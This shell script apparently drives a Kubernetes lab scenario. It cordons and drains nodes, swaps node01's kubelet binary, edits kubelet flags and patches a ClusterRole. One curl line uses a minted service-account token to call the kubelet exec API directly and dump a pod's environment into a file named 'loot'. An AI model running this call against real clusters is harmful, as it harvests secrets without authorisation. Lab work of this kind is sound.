# scene: the program of the other ship, the two dead flags cut out alone, rights by a patch
kubectl cordon node02
kubectl apply -f shop.yaml
#@ wait 3
kubectl uncordon node02
curl -sk -m 3 --http1.1 -N -o loot -H "Authorization: Bearer $(kubectl -n monitoring create token lookout)" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' 'https://node01:10250/exec/default/web-node01/web?command=env&output=1'
kubectl cordon node01
kubectl drain node01 --ignore-daemonsets
#@ wait 40
kubectl get pods -A --field-selector spec.nodeName=node01 > dock
scp -q node02:/usr/bin/kubelet kubelet.new
ssh node01 systemctl stop kubelet
scp -q kubelet.new node01:/root/kubelet.new
ssh node01 install -m 755 /root/kubelet.new /usr/bin/kubelet
ssh node01 "sed -i -E 's/--container-runtime=remote //; s/ --pod-infra-container-image=[^ \"]*//' /var/lib/kubelet/kubeadm-flags.env"
ssh node01 systemctl start kubelet
#@ wait 8
kubectl uncordon node01
kubectl patch clusterrole lookout --type=json -p '[{"op":"replace","path":"/rules/0/resources","value":["nodes/pods"]}]'
